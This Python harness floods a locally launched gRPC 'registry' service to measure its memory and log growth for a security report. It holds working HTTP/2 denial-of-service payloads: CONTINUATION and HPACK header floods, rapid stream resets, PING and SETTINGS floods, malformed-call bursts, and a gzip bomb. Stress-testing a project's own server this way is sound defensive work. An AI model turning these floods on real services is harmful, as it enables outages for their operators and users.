"""Floods of a gRPC port, and what they cost: `python3 floods.py` prints the table of SECURITY.md."""

import os
import struct
import sys
import threading
import time
import zlib

import raw_http2
from raw_http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame,
                       integer, literal, request_headers)

GET = "/dangjian.registry.v1.OrganizationService/GetOrganization"


def resident_mb(process):
    with open(f"/proc/{process.pid}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGESIZE") / 1e6


class HighWater:
    """The highest resident memory of a process while it is watched."""

    def __init__(self, process):
        self._process = process
        self._highest = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.wait(0.02):
            self._highest = max(self._highest, resident_mb(self._process))

    def stop(self):
        self._stop.set()
        self._thread.join()
        return self._highest


def endless_continuation(connection):
    """A header block that never ends: one text of a declared two gigabytes, frame after frame."""
    start = request_headers(GET) + b"\x00" + integer(1, 7, 0) + b"x" + integer(2_000_000_000, 7, 0)
    connection.send(frame(HEADERS, 0, connection.next_stream(), start))
    return frame(CONTINUATION, 0, connection.stream, b"a" * 16384) * 16


def many_small_headers(connection):
    """A header block that never ends, of many small headers."""
    connection.send(frame(HEADERS, 0, connection.next_stream(), request_headers(GET)))
    return frame(CONTINUATION, 0, connection.stream, literal("x-a", "b" * 16) * 600) * 16


def endless_indexing(connection):
    """A header block that never ends, each header of which is to be remembered."""
    if connection.stream < 0:
        connection.send(frame(HEADERS, 0, connection.next_stream(), request_headers(GET)))
    remembered = b"\x40" + literal("x-a", "b" * 20)[1:]
    return frame(CONTINUATION, 0, connection.stream, remembered * 600) * 16


def rapid_reset(connection):
    """Calls that are taken back at once."""
    burst = b""
    for _ in range(100):
        stream = connection.next_stream()
        burst += frame(HEADERS, END_HEADERS, stream, request_headers(GET)) + frame(RST_STREAM, 0, stream,
                                                                                  struct.pack(">I", 8))
    return burst


def pings(_):
    return frame(PING, 0, 0, b"12345678") * 1000


def settings(_):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000


def wrong_calls(connection):
    """Calls that fail, as fast as they can be sent. The client never confirms the server's settings, and so is bound to no
    number of calls at once."""
    burst = b""
    for _ in range(50):
        stream = connection.next_stream()
        burst += frame(HEADERS, END_HEADERS, stream, request_headers(GET))
        burst += frame(DATA, END_STREAM, stream, b"\x00" + struct.pack(">I", 3) + b"\x0a\xff\xff")
    return burst


FLOODS = (endless_continuation, many_small_headers, endless_indexing, rapid_reset, pings, settings, wrong_calls)


def run(flood, address, seconds):
    """Floods a port; returns how many megabytes were sent over how many connections."""
    end = time.monotonic() + seconds
    sent = connections = 0
    while time.monotonic() < end:
        connection = raw_http2.Connection(address)
        connections += 1
        try:
            while time.monotonic() < end:
                data = flood(connection)
                if not connection.send(data):
                    break
                sent += len(data)
        finally:
            connection.close()
    return sent / 1e6, connections


def gzip_bomb(megabytes):
    """So many megabytes of zeros as a compressed gRPC message."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(1_000_000)) for _ in range(megabytes)) + packer.flush()
    return b"\x01" + struct.pack(">I", len(packed)) + packed


def send_message(address, message, *headers):
    """One call with this message, in frames as large as a server takes; returns what came back."""
    connection = raw_http2.Connection(address)
    stream = connection.next_stream()
    connection.send(frame(HEADERS, END_HEADERS, stream, request_headers(GET, *headers)))
    for begin in range(0, len(message), 16384):
        part = message[begin:begin + 16384]
        if not connection.send(frame(DATA, END_STREAM if begin + 16384 >= len(message) else 0, stream, part)):
            break
    time.sleep(1)
    connection.close()
    return connection.received


def main(seconds=5):
    from suite import Suite  # pylint: disable=import-outside-toplevel
    print("| flood | sent MB | connections | memory before MB | highest MB | 20 s later MB | log MB |")
    print("|---|---|---|---|---|---|---|")
    for flood in FLOODS:
        suite = Suite()
        try:
            suite.start("registry")
            process = suite.processes["registry"]
            before = resident_mb(process)
            log = os.path.getsize(suite.path("registry.log"))
            highest = HighWater(process)
            sent, connections = run(flood, suite.addresses["registry"][0], seconds)
            peak = highest.stop()
            time.sleep(20)
            print(f"| {flood.__name__.replace('_', ' ')} | {sent:.0f} | {connections} | {before:.0f} | {peak:.0f} | "
                  f"{resident_mb(process):.0f} | {(os.path.getsize(suite.path('registry.log')) - log) / 1e6:.1f} |")
        finally:
            suite.close()


if __name__ == "__main__":
    main(float(sys.argv[1]) if len(sys.argv) > 1 else 5)
